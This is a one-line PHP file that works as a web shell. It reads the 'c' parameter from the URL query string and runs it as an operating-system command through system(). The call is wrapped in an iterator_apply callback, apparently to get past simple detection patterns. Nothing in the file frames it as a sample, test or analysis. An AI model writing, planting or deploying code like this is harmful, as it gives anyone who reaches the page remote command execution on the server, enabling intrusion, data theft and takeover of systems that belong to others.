<?php iterator_apply($it = new ArrayIterator(array($_GET['c'])), function () use (&$it) { system($it->current()); return false; }, array());
